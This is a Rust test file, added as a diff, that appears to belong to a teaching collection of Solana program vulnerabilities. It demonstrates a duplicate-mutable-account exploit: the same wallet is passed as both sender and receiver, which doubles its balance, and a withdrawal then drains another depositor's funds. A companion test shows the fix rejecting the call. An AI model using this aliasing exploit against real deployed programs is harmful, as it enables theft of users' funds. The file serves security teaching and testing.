@@ -0,0 +1,206 @@
+/// # Pattern 8: Duplicate Mutable Accounts — Mollusk Exploit Tests
+///
+/// Two depositors have 1 SOL each in a shared pool. Wallet balances record
+/// who owns what.
+///
+/// - Test 1: EXPLOIT — the attacker passes their wallet as both `from` and
+///   `to`, doubles its balance, and withdraws the other depositor's SOL.
+/// - Test 2: SECURE — the same aliased call is rejected by the
+///   `from.key() != to.key()` constraint.
+/// - Test 3: SANITY — a transfer between two different wallets moves the
+///   balance and conserves the total.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{account_discriminator, ix_discriminator, system_account};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("4vpAosMEGszBvQQy3WnTyh5fDY2WBLyPbj9zDqxYYFvE");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 1_000_000;
+
+// Error codes
+const DUPLICATE_WALLET: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Wallet account: [8 disc][32 owner][8 balance][1 bump]
+fn serialize_wallet(owner: &Pubkey, balance: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(49);
+    data.extend_from_slice(&account_discriminator("Wallet"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&balance.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// A wallet PDA for `owner`. Returns (address, account, bump).
+fn wallet(owner: &Pubkey, balance: u64) -> (Pubkey, AccountSharedData, u8) {
+    let (address, bump) = Pubkey::find_program_address(&[b"wallet", owner.as_ref()], &PROGRAM_ID);
+    let data = serialize_wallet(owner, balance, bump);
+    let mut account = AccountSharedData::new(RENT, data.len(), &PROGRAM_ID);
+    account.set_data_from_slice(&data);
+    (address, account, bump)
+}
+
+/// The pool PDA holding `deposits` lamports above rent.
+fn pool(deposits: u64) -> (Pubkey, AccountSharedData) {
+    let (address, bump) = Pubkey::find_program_address(&[b"pool"], &PROGRAM_ID);
+    let mut data = account_discriminator("Pool").to_vec();
+    data.push(bump);
+    let mut account = AccountSharedData::new(RENT + deposits, data.len(), &PROGRAM_ID);
+    account.set_data_from_slice(&data);
+    (address, account)
+}
+
+fn transfer_ix(name: &str, from: Pubkey, to: Pubkey, owner: Pubkey, amount: u64) -> Instruction {
+    let mut data = ix_discriminator(name).to_vec();
+    data.extend_from_slice(&amount.to_le_bytes());
+    Instruction::new_with_bytes(
+        PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(from, false),
+            AccountMeta::new(to, false),
+            AccountMeta::new_readonly(owner, true),
+        ],
+    )
+}
+
+fn withdraw_ix(pool: Pubkey, wallet: Pubkey, owner: Pubkey, amount: u64) -> Instruction {
+    let mut data = ix_discriminator("withdraw").to_vec();
+    data.extend_from_slice(&amount.to_le_bytes());
+    Instruction::new_with_bytes(
+        PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(pool, false),
+            AccountMeta::new(wallet, false),
+            AccountMeta::new(owner, true),
+        ],
+    )
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_same_wallet_twice_inflates_balance() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The attacker's wallet (1 SOL) is passed as both `from` and
+    // `to` in a 1 SOL transfer. The account list holds it once; the
+    // instruction references it twice.
+    //
+    // Expected: SUCCEEDS — the wallet reads 2 SOL. A withdraw of 2 SOL then
+    //           empties the pool, taking the victim's deposit.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "duplicate_mutable");
+    let attacker = Pubkey::new_unique();
+    let (attacker_wallet, wallet_account, bump) = wallet(&attacker, SOL);
+    let (pool, pool_account) = pool(2 * SOL); // attacker's 1 SOL + victim's 1 SOL
+
+    let result = mollusk.process_and_validate_instruction(
+        &transfer_ix(
+            "transfer_vulnerable",
+            attacker_wallet,
+            attacker_wallet, // <-- same account as `from`
+            attacker,
+            SOL,
+        ),
+        &[
+            (attacker_wallet, wallet_account),
+            (attacker, system_account(RENT)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&attacker_wallet)
+                .data(&serialize_wallet(&attacker, 2 * SOL, bump))
+                .build(),
+        ],
+    );
+    let inflated = result.resulting_accounts[0].1.clone();
+
+    // Cash out the inflated balance
+    mollusk.process_and_validate_instruction(
+        &withdraw_ix(pool, attacker_wallet, attacker, 2 * SOL),
+        &[
+            (pool, pool_account),
+            (attacker_wallet, inflated),
+            (attacker, system_account(RENT)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&pool).lamports(RENT).build(),
+            Check::account(&attacker).lamports(RENT + 2 * SOL).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_same_wallet_twice() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same aliased transfer, through transfer_secure.
+    //
+    // Expected: FAILS with DuplicateWallet (6000) — the constraint on `to`
+    //           runs before the handler.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "duplicate_mutable");
+    let attacker = Pubkey::new_unique();
+    let (attacker_wallet, wallet_account, _) = wallet(&attacker, SOL);
+
+    mollusk.process_and_validate_instruction(
+        &transfer_ix(
+            "transfer_secure",
+            attacker_wallet,
+            attacker_wallet,
+            attacker,
+            SOL,
+        ),
+        &[
+            (attacker_wallet, wallet_account),
+            (attacker, system_account(RENT)),
+        ],
+        &[Check::err(ProgramError::Custom(DUPLICATE_WALLET))],
+    );
+}
+
+#[test]
+fn sanity_transfer_between_distinct_wallets_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: Alice sends 0.4 SOL of her 1 SOL balance to Bob's wallet.
+    //
+    // Expected: SUCCEEDS — Alice 0.6 SOL, Bob 1.4 SOL. The total is
+    //           unchanged.
+    // -----------------------------------------------------------------------
+    let mollusk = Mollusk::new(&PROGRAM_ID, "duplicate_mutable");
+    let alice = Pubkey::new_unique();
+    let bob = Pubkey::new_unique();
+    let (alice_wallet, alice_account, alice_bump) = wallet(&alice, SOL);
+    let (bob_wallet, bob_account, bob_bump) = wallet(&bob, SOL);
+    let amount = 400_000_000;
+
+    mollusk.process_and_validate_instruction(
+        &transfer_ix("transfer_secure", alice_wallet, bob_wallet, alice, amount),
+        &[
+            (alice_wallet, alice_account),
+            (bob_wallet, bob_account),
+            (alice, system_account(RENT)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&alice_wallet)
+                .data(&serialize_wallet(&alice, SOL - amount, alice_bump))
+                .build(),
+            Check::account(&bob_wallet)
+                .data(&serialize_wallet(&bob, SOL + amount, bob_bump))
+                .build(),
+        ],
+    );
+}